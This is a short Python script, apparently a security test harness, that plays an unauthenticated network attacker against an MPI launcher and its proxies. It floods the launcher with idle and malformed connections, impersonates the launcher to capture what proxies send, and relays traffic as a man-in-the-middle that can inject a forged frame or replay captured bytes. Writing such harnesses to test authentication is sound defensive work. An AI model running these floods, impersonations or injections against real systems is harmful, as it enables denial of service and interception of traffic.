"""An attacker on a host of the network: he knows mpiexec's address and port, and no key.

usage: attacker.py flood ADDRESS PORT COUNT          COUNT connections that say nothing, and some that talk; says "there", and keeps them
       attacker.py lie PORT FOLDER                   answers as mpiexec would, without the key; FOLDER/heard gets what proxies say
       attacker.py relay PORT ADDRESS PORT FOLDER    passes on one connection, and writes it to FOLDER/wire; a line "inject" on standard input: sends
                                                     bytes of his own to the proxy, one "reflect": sends it what it has sent
"""

import contextlib
import os
import pathlib
import socket
import sys
import threading

TALK = [b"GET / HTTP/1.1\r\nHost: a web browser, it seems\r\n\r\n", b"x" * 1000000, b"clump-join 1" + bytes(100), b"clump-join 1" + b"\xff" * 36 + bytes(32)]


def flood(address, port, count):
    made = []
    for i in range(int(count)):
        one = socket.create_connection((address, int(port)), 60)
        one.setblocking(False)
        if i % 10 < len(TALK):
            with contextlib.suppress(OSError):
                one.send(TALK[i % 10])
        made.append(one)
    print("there", flush=True)
    sys.stdin.read()


def lie(port, folder):
    server = socket.create_server(("", int(port)))
    print("there", flush=True)
    heard = pathlib.Path(folder, "heard")
    while True:
        one, _ = server.accept()
        with contextlib.suppress(OSError), one:
            data = one.recv(1000)
            one.sendall(os.urandom(64) + b"\nclump-proxy 1 /bin/mpiexec\n")
            while data:
                with heard.open("ab") as file:
                    file.write(data)
                data = one.recv(1000)


def relay(port, address, there, folder):
    server = socket.create_server(("", int(port)))
    print("there", flush=True)
    down, _ = server.accept()
    up = socket.create_connection((address, int(there)), 10)
    up.setblocking(True)
    wire = pathlib.Path(folder, "wire")
    sent = []

    def carry(source, target, keep):
        with contextlib.suppress(OSError):
            while data := source.recv(1 << 16):
                keep(data)
                target.sendall(data)
        for one in (source, target):
            with contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)

    def write(data):
        with wire.open("ab") as file:
            file.write(data)

    for source, target, keep in ((down, up, lambda data: (sent.append(data), write(data))), (up, down, write)):
        threading.Thread(target=carry, args=(source, target, keep), daemon=True).start()
    for line in sys.stdin:
        with contextlib.suppress(OSError):
            # A frame as it is without protection: host 1, control, data.
            down.sendall(b"\x01\0\0\0\0\0\0\0\x04\0\0\0\x01\0\0\0\n" if line == "inject\n" else b"".join(sent)[80:])


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
